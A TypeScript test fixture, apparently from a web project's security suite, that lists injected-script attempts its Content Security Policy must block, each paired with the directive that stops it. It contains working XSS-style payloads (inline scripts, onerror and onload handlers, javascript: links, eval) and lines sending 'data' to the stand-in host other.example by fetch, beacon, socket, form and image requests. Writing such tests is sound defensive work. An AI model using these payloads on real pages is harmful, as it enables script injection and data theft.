/** Attacks by a script injected into a page, which the page's Content Security Policy must block. */
import type { Attack } from './attack';

export interface PolicyAttack extends Attack {
  /** The directive that blocks the attempt. */
  readonly directive: string;
  /** Runs in the page. Injected code sets `globalThis.reached` if it runs. */
  readonly attempt: () => unknown;
}

/** Name, directive, and attempt. Hosts under the reserved domain `.example` don't respond. */
const table: readonly (readonly [string, string, () => unknown])[] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.reached = true';
      document.body.append(script);
    },
  ],
  [
    'an inline script with a guessed nonce',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.nonce = 'abc';
      script.textContent = 'globalThis.reached = true';
      document.body.append(script);
    },
  ],
  [
    'an inline module',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.type = 'module';
      script.textContent = 'globalThis.reached = true';
      document.body.append(script);
    },
  ],
  [
    'an event handler in markup',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="globalThis.reached = true">',
      );
    },
  ],
  [
    'an event handler of an SVG',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<svg onload="globalThis.reached = true"/>');
    },
  ],
  [
    'an address that is code',
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.reached = true';
      document.body.append(link);
      link.click();
    },
  ],
  ['eval', 'script-src', () => globalThis.eval('globalThis.reached = true')],
  ['a function made of text', 'script-src', () => new Function('globalThis.reached = true')()],
  [
    'a timer with text',
    'script-src',
    () => setTimeout('globalThis.reached = true' as unknown as () => void),
  ],
  [
    'a script of another host',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://other.example/attack.js';
      document.body.append(script);
    },
  ],
  [
    'a script in its own address',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,globalThis.reached = true';
      document.body.append(script);
    },
  ],
  [
    'a module of another host',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.type = 'module';
      script.src = 'https://other.example/attack.js';
      document.body.append(script);
    },
  ],
  [
    'a worker in its own address',
    'worker-src',
    () => new Worker('data:text/javascript,globalThis.reached = true'),
  ],
  [
    'another base for all addresses',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://other.example/';
      document.head.prepend(base);
    },
  ],
  [
    'a form sent to another host',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://other.example/';
      document.body.append(form);
      form.submit();
    },
  ],
  ['a request to another host', 'connect-src', () => fetch('https://other.example/?data')],
  [
    'an old-fashioned request',
    'connect-src',
    () => {
      const request = new XMLHttpRequest();
      request.open('POST', 'https://other.example/');
      request.send('data');
    },
  ],
  ['a socket', 'connect-src', () => new WebSocket('wss://other.example/')],
  ['an event stream', 'connect-src', () => new EventSource('https://other.example/')],
  ['a beacon', 'connect-src', () => navigator.sendBeacon('https://other.example/', 'data')],
  ['a server on the reader’s machine', 'connect-src', () => fetch('http://localhost:9/')],
  ['a search host without hosted search', 'connect-src', () => fetch('https://a.algolia.net/')],
  ['a host whose name ends alike', 'connect-src', () => fetch('https://acognitedata.com/')],
  [
    'an image of another host',
    'img-src',
    () => {
      new Image().src = 'https://other.example/?data';
    },
  ],
  [
    'styles of another host',
    'style-src-elem',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://other.example/?data';
      document.head.append(link);
    },
  ],
  [
    'a font of another host',
    'font-src',
    () => new FontFace('a', 'url(https://other.example/a.woff2)').load(),
  ],
  [
    'a sound of another host',
    'media-src',
    () => {
      new Audio('https://other.example/?data').load();
    },
  ],
  [
    'a frame with another host',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://other.example/';
      document.body.append(frame);
    },
  ],
  [
    'a plugin',
    'object-src',
    () => {
      const object = document.createElement('object');
      object.data = 'https://other.example/';
      document.body.append(object);
    },
  ],
];

/**
 * Returns the policy's name for the directive that the browser applied. The browser reports a more specific name, such
 * as `script-src-elem` for `script-src`, or `media-src` for `default-src`.
 */
function named(directive: string): string {
  if (directive === 'media-src') return 'default-src';
  return directive.replace(/-(?:elem|attr)$/, '');
}

/**
 * Attacks that failed before the current policy, because of the earlier `frame-src` or because Chromium doesn't call
 * the event handler.
 */
const heldBefore = new Set(['a frame with another host', 'a plugin', 'an event handler of an SVG']);

export const policyAttacks: readonly PolicyAttack[] = table.map(([name, directive, attempt]) => ({
  name,
  directive,
  attempt,
  defends: `deploy/headers.ts#'${named(directive)}'`,
  before: heldBefore.has(name) ? 'held' : 'succeeded',
}));
